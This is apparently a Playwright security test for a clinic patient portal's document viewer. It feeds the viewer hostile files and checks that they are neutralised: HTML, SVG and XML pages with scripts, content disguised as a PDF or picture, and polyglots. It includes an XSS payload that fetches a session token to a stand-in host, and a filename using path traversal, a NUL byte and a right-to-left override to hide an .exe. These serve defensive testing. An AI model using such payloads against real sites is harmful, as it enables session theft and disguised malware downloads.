import { readFile } from 'node:fs/promises'
import type { BrowserContext, Page } from '@playwright/test'
import { danger } from '../release/documents/danger.ts'
import { expect, test } from './journey.ts'

const bytes = (...parts: (string | Uint8Array)[]) =>
  Buffer.concat(parts.map((part) => (typeof part === 'string' ? Buffer.from(part, 'latin1') : Buffer.from(part))))
const script =
  '<script>alert(document.cookie);fetch("https://elders.example/?"+sessionStorage.token);parent.x=1</script>'
const png = bytes('\u0089PNG\r\n\u001a\n')
const pixel = Buffer.from(
  'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==',
  'base64',
)
const html = bytes(`<!doctype html><body onload="alert(1)">${script}<iframe src="https://elders.example/"></iframe>`)
const [links, scripts, attachments] = [
  'links of every scheme',
  'scripts everywhere',
  'attachments and pictures from elsewhere',
].map((name) => danger[name]?.bytes ?? bytes())

interface Hostile {
  name: string
  mimetype: string
  data: Uint8Array
  /** What the portal makes of it. */
  state: 'shown' | 'picture' | 'damaged'
}

/** What somebody who has the clinic's answers in hand could send. */
export const corpus: readonly Hostile[] = [
  { name: 'a page', mimetype: 'text/html', data: html, state: 'damaged' },
  {
    name: 'a drawing with a script',
    mimetype: 'image/svg+xml',
    data: bytes(`<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">${script}</svg>`),
    state: 'damaged',
  },
  {
    name: 'a text that a style sheet turns into a page',
    mimetype: 'text/xml',
    data: bytes(
      '<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="https://elders.example/x.xsl"?><x xmlns:h="http://www.w3.org/1999/xhtml"><h:script>alert(1)</h:script></x>',
    ),
    state: 'damaged',
  },
  { name: 'a page that says it is a PDF', mimetype: 'application/pdf', data: html, state: 'damaged' },
  { name: 'a page that says it is a picture', mimetype: 'image/png', data: html, state: 'damaged' },
  { name: 'a script', mimetype: 'text/javascript', data: bytes('alert(1)'), state: 'damaged' },
  { name: 'a picture with a page behind it', mimetype: 'text/html', data: bytes(pixel, html), state: 'picture' },
  { name: 'a broken picture with a page behind it', mimetype: 'text/html', data: bytes(png, html), state: 'damaged' },
  {
    name: 'a page with a PDF behind it',
    mimetype: 'text/html',
    data: bytes('<!doctype html>', script, '%PDF-1.7'),
    state: 'damaged',
  },
  { name: 'a PDF with a page behind it', mimetype: 'text/html', data: bytes(links ?? '', html), state: 'shown' },
  { name: 'a PDF with links of every scheme', mimetype: 'application/pdf', data: links ?? bytes(), state: 'shown' },
  { name: 'a PDF with scripts everywhere', mimetype: 'application/pdf', data: scripts ?? bytes(), state: 'shown' },
  {
    name: 'a PDF with files inside and pictures from elsewhere',
    mimetype: 'application/pdf',
    data: attachments ?? bytes(),
    state: 'shown',
  },
]

/** A name that hides what a file is and leads out of its folder, and what it is saved under. Every kind of name is a line of a table beside the rule. */
const hidden = '..\\..\\Windows/brief\u0000\u202Efdp.exe'
const plain = 'Windows-brieffdp.exe.bin'

/** Whatever left the page: windows, dialogs, files and pages that nobody asked for. */
function watch(page: Page, context: BrowserContext): string[] {
  const escapes: string[] = []
  page.on('dialog', (dialog) => {
    escapes.push(`said ${dialog.message()}`)
    void dialog.dismiss()
  })
  page.on('download', (file) => escapes.push(`saved ${file.suggestedFilename()}`))
  page.on('framenavigated', (frame) => {
    if (!frame.url().endsWith('/document/1')) escapes.push(`went to ${frame.url()}`)
  })
  context.on('page', (other) => escapes.push(`opened ${other.url()}`))
  return escapes
}

/** Opens each in the portal of who is signed in on the page, and saves one. */
export async function openHostile(
  { page, context }: { page: Page; context: BrowserContext },
  documents: readonly Hostile[],
): Promise<void> {
  let answer: Pick<Hostile, 'data' | 'mimetype'> & { description: string }
  await page.route('**/patientPortal/document/get', (route) =>
    route.fulfill({
      json: {
        documentData: Buffer.from(answer.data).toString('base64'),
        mimetype: answer.mimetype,
        description: answer.description,
      },
    }),
  )
  const open = async (given: typeof answer) => {
    answer = given
    await page.goto('/document/1')
    await expect(page.locator('.pdf-frame')).toHaveAttribute('aria-busy', 'false', { timeout: 30_000 })
  }
  const link = page.getByRole('link', { name: /^Downloaden/ })
  const save = async () => {
    const download = page.waitForEvent('download')
    await link.click()
    return download
  }
  // The pages, which do more than their text.
  await page.goto('/')
  await page.evaluate(() => sessionStorage.setItem('documentView', '"pages"'))
  await page.goto('about:blank')
  const escapes = watch(page, context)

  for (const { name, state, ...hostile } of documents) {
    await test.step(name, async () => {
      await open({ ...hostile, description: `Uitslag ${script}` })
      await expect(page.locator('.pdf-frame'), name).toHaveAttribute('data-state', state)
      if (state === 'shown') await expect(page.getByRole('article').first()).toHaveAttribute('data-state', 'drawn')
      expect(await page.locator('iframe, object, embed, frame, svg script, main script').count(), name).toBe(0)
      expect(escapes, name).toEqual([])
    })
  }

  await open({ data: html, mimetype: 'text/html', description: hidden })
  const file = await save()
  expect(file.suggestedFilename()).toBe(plain)
  expect(escapes).toEqual([`saved ${plain}`])
  expect(await readFile(await file.path())).toEqual(html)
}
